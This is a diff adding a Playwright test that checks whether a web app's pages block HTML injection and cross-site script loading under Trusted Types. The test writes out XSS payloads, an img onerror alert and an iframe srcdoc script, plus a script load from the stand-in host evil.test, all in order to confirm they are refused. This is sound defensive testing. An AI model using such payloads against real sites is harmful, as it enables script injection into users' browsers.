@@ -139,6 +139,39 @@ test("no payload runs in the editor, saved or pasted, nor on any page that shows
   await expect.poll(() => seen).toEqual(["alert"]);
 });
 
+test("a page's scripts can neither insert HTML from a string nor load a script of another site", async ({ page }) => {
+  // Not a `person`, for whom what the browser logs about refusals would be errors.
+  const seen = await watch(page);
+  for (const path of ["/", "/en-US/login"]) {
+    await page.goto(path);
+    await expect(page.locator("html")).toHaveAttribute("data-hydrated");
+    const allowed = await page.evaluate(() => {
+      const image = "<img src=data:, onerror=alert(1)>";
+      const element = document.body.appendChild(document.createElement("div"));
+      const frame = document.body.appendChild(document.createElement("iframe"));
+      const script = document.createElement("script");
+      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy: (name: string) => void } };
+      const attempts = {
+        innerHTML: () => Object.assign(element, { innerHTML: image }),
+        insertAdjacentHTML: () => element.insertAdjacentHTML("beforeend", image),
+        srcdoc: () => Object.assign(frame, { srcdoc: "<script>parent.alert(1)</script>" }),
+        "a script's address": () => document.head.appendChild(Object.assign(script, { src: "https://evil.test/x.js" })),
+        "a policy of its own": () => trustedTypes.createPolicy("evil"),
+      };
+      return Object.entries(attempts).flatMap(([name, attempt]) => {
+        try {
+          attempt();
+          return [name];
+        } catch (error) {
+          return error instanceof TypeError ? [] : [String(error)];
+        }
+      });
+    });
+    expect(allowed, path).toEqual([]);
+  }
+  expect(seen).toEqual([]);
+});
+
 test("text of Google Docs, Word and spreadsheets is pasted with its own weight, lists and tables", async ({ own }) => {
   const { page } = await own("startupDraft");
   await page.goto("/startup/detail/edit");
